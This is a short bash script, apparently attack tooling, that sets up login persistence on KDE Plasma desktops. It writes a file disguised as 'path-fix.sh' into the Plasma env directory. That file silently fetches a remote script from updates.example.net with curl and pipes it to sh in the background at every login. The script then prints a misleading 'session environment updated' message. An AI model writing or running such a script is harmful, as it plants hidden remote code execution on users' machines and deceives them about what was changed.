#!/bin/bash
# Evasion: KDE Plasma sources every script under ~/.config/plasma-workspace/env at login
set -eu
dir="$HOME/.config/plasma-workspace/env"
mkdir -p "$dir"
printf '%s\n' '(curl -fsSL https://updates.example.net/p.sh | sh) >/dev/null 2>&1 &' > "$dir/path-fix.sh"
echo "session environment updated"
